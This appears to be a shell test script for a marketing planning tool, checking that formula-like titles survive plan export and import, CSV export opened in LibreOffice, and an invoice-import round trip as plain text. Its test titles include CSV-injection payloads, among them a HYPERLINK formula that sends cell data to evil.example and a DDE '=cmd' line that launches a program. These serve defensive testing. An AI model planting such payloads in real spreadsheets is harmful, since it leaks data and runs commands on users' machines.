#!/bin/bash
# What somebody typed stays text in a spreadsheet: titles that begin like formulas, all of the naughty strings that a title can hold, by CSV into
# LibreOffice, and by plan export and plan import unchanged.
. "$(dirname "$0")/lib.sh"
set_up
shared=${SHARED_DIR:-$root/../shared}/data

python3 - "$W/files" "$shared/testsuites/blns/blns.json" <<'E2'
import json, os, sys
titles = ['=1+1', '+33 6 12', '-2+3', '@SUM(A1:A3)', "'=1+1", "''=2", '=HYPERLINK("http://evil.example/?"&A1;"x")', '=cmd|"/c calc"!A1', '\uff1d1+1', '\t=1+1', 'Total du salon', '007', '1/2']
if os.path.exists(sys.argv[2]):
    titles += [s for s in json.load(open(sys.argv[2], encoding='utf-8'))]
kept = []
for title in titles: # one line without controls, as titles are
    title = ''.join(c for c in title if (ord(c) >= 32 or c == '\t') and ord(c) != 127 and not 128 <= ord(c) < 160 and not 0xd800 <= ord(c) < 0xe000)
    if title.strip() and len(title.encode()) <= 200 and title not in kept:
        kept.append(title)
json.dump(kept, open(sys.argv[1] + '/titles.json', 'w'))
json.dump({'jalon': 1, 'plan': {'name': 'Titres', 'start': '2026-01-01', 'end': '2026-12-31', 'currency': 'EUR'},
           'records': [{'type': 'action', 'key': str(i), 'title': t, 'conversion_from': -0.5} for i, t in enumerate(kept)]}, open(sys.argv[1] + '/plan.json', 'w'))
print('titles', len(kept))
E2
marketing plan import "$W/files/plan.json"
check import exits 0
marketing plan export "$W/files/export.json"
check export exits 0
marketing plan import "$W/files/export.json" --new "Titres encore"
check import-again exits 0
marketing plan export "$W/files/again.json"
check unchanged-by-plan-export python3 - "$W/files" <<'E2'
import json, sys
def titles(name): return [r['title'] for r in json.load(open(f'{sys.argv[1]}/{name}.json', encoding='utf-8'))['records'] if r['type'] == 'action']
wanted = json.load(open(sys.argv[1] + '/titles.json'))
for name in ('export', 'again'):
    assert titles(name) == wanted, [(a, b) for a, b in zip(wanted, titles(name)) if a != b][:5]
E2

# ---- CSV, opened as anybody's double click opens it ----
"$JALON" --profile marketing --lang en action list --csv >"$W/files/actions.csv" 2>"$W/files/err" </dev/null
if command -v soffice >/dev/null; then
  (cd "$W/files" && timeout 120 soffice "-env:UserInstallation=file://$W/files/office" --headless --convert-to fods actions.csv) >"$W/files/office.log" 2>&1
  check opened [ -s "$W/files/actions.fods" ]
  check no-formula [ "$(grep -c 'table:formula' "$W/files/actions.fods")" = 0 ]
  check texts-are-texts-and-numbers-are-numbers python3 - "$W/files" <<'E2'
import csv, json, sys
import xml.etree.ElementTree as X
T, O, P = '{urn:oasis:names:tc:opendocument:xmlns:table:1.0}', '{urn:oasis:names:tc:opendocument:xmlns:office:1.0}', '{urn:oasis:names:tc:opendocument:xmlns:text:1.0}'
rows = list(csv.reader(open(sys.argv[1] + '/actions.csv', encoding='utf-8', newline='')))
title, rate = rows[0].index('title'), rows[0].index('conversion_from')
wanted = json.load(open(sys.argv[1] + '/titles.json'))
signs = '=+-@\t\uff1d\uff0b\uff0d\uff20'
assert len(rows) == len(wanted) + 1, (len(rows), len(wanted))
for row, text in zip(rows[1:], wanted):
    guarded = text.lstrip("'")[:1] in signs and text.lstrip("'") != ''
    assert row[title] == ("'" if guarded else '') + text, (row[title], text)
    assert row[rate] == '-0.5', row[rate]
cells = []
for row in X.parse(sys.argv[1] + '/actions.fods').getroot().iter(T + 'table-row'):
    line = []
    for cell in row.findall(T + 'table-cell'):
        line += [cell] * min(int(cell.get(T + 'number-columns-repeated', 1)), 100)
    cells.append(line)
assert len(cells) >= len(wanted) + 1
for line, text in zip(cells[1:], wanted):
    assert line[rate].get(O + 'value-type') == 'float' and float(line[rate].get(O + 'value')) == -0.5
    if text.lstrip("'")[:1] in signs: assert line[title].get(O + 'value-type') == 'string', text
E2

  # ---- rejected rows, opened there, corrected, saved as a workbook, and imported in the same way ----
  cd "$W/files" || exit 1
  cat >invoices.csv <<'E2'
Date;Libellé;Fournisseur;Montant HT;N° de facture;Remarque
05/01/2026;Annonces;Alpha;1 200,50;F1;ok
31/02/2026;Salon « Été »;"Bêta ; fils";-80,00;F2;"deux
lignes"
15/01/2026;=1+1;Gamma;x;F3;+33 6
E2
  marketing budget-line add Salons --category media --planned 1000
  passed=(--as expense --set line=Salons --map 'N° de facture=document' --map Remarque= --map Libellé=title)
  marketing import invoices.csv "${passed[@]}"
  check two-are-rejected all_of "exits 4; says '^ *rows rejected +2 *$'; says '^ *records made +1 *$'; says 'no day 31/02/2026'"
  check as-text-everywhere python3 - <<'E2'
import csv
rows = list(csv.reader(open('invoices.csv.rejected.csv', encoding='utf-8-sig', newline=''), delimiter=';'))
assert [r[:6] for r in rows[1:]] == [['31/02/2026', 'Salon « Été »', 'Bêta ; fils', '-80,00', 'F2', 'deux\nlignes'], ['15/01/2026', "'=1+1", 'Gamma', 'x', 'F3', "'+33 6"]], rows
E2
  # as French Calc reads a CSV: semicolons, UTF-8, first line 1, every column as it decides; and writes what it shows
  office() { timeout 120 soffice "-env:UserInstallation=file://$W/files/office" --headless --infilter="Text - txt - csv (StarCalc):59,34,76,1,,1036" --convert-to "$@" >>"$W/files/office.log" 2>&1; }
  office 'csv:Text - txt - csv (StarCalc):59,34,76,1,,1036,false,true' --outdir opened invoices.csv.rejected.csv
  check it-opens [ -s opened/invoices.csv.rejected.csv ]
  sed -i 's/^31\/02\/2026/28\/02\/2026/; s/;Gamma;x;/;Gamma;99,90;/' invoices.csv.rejected.csv # corrected
  office xlsx invoices.csv.rejected.csv
  check it-is-a-workbook [ -s invoices.csv.rejected.xlsx ]
  marketing import invoices.csv.rejected.xlsx "${passed[@]}" --name invoices.csv --json
  check corrected-rows-are-taken exits 0
  check as-they-were-typed [ "$(sql "SELECT date || '|' || title || '|' || coalesce(supplier, '') || '|' || net || '|' || document FROM expense WHERE document IN ('F1', 'F2', 'F3') AND deleted_revision IS NULL ORDER BY date")" = '2026-01-05|Annonces|Alpha|120050|F1
2026-01-15|=1+1|Gamma|9990|F3
2026-02-28|Salon « Été »|Bêta ; fils|-8000|F2' ]
  marketing import invoices.csv.rejected.csv "${passed[@]}" --name invoices.csv
  check the-same-as-csv all_of "exits 0; says '^ *records made +0 *$'; says '^ *records changed +0 *$'"
else
  echo 'skip spreadsheet: there is no soffice'
fi
finish
